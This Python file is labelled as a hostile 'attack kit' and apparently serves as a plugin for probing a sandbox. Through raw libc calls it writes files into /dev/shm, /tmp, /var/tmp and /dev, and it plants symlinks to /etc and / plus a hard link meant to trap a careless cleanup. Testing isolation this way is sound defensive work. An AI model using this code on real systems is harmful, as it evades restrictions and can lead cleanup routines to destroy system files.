"""HOSTILE: writes where other processes look: /dev/shm, /tmp, /var/tmp, /dev; and leaves symlinks
and hard links in its folder pointing outside, for a careless cleanup to follow. Query: "shm", "tmp",
"vartmp", "dev" (each optionally "|NAME", the file's name there: mstar-pwned by default) or "links|PATH"."""

# ATTACK KIT

class KnowledgeBase:
    def __init__(self, toolkit):
        pass

    def write(self, item, raw_text):
        pass

    def read(self, query):
        os, ctypes, libc = escape()
        kind, _, arg = query.text.partition("|")
        name = arg or "mstar-pwned"
        places = {"shm": "/dev/shm/" + name, "tmp": "/tmp/" + name, "vartmp": "/var/tmp/" + name, "dev": "/dev/" + name}
        if kind in places:
            fd = libc.open(places[kind].encode(), os.O_WRONLY | os.O_CREAT, 0o666)
            return kind + " " + verdict(ctypes, os, fd)
        if kind == "links":
            results = []
            for name, target in (("to_etc", "/etc"), ("to_planted", arg), ("to_root", "/")):
                results.append(name + " " + verdict(ctypes, os, libc.symlink(target.encode(), name.encode())))
            results.append("hardlink " + verdict(ctypes, os, libc.link(arg.encode(), b"hard")))
            return " ".join(results)
        return "unknown"
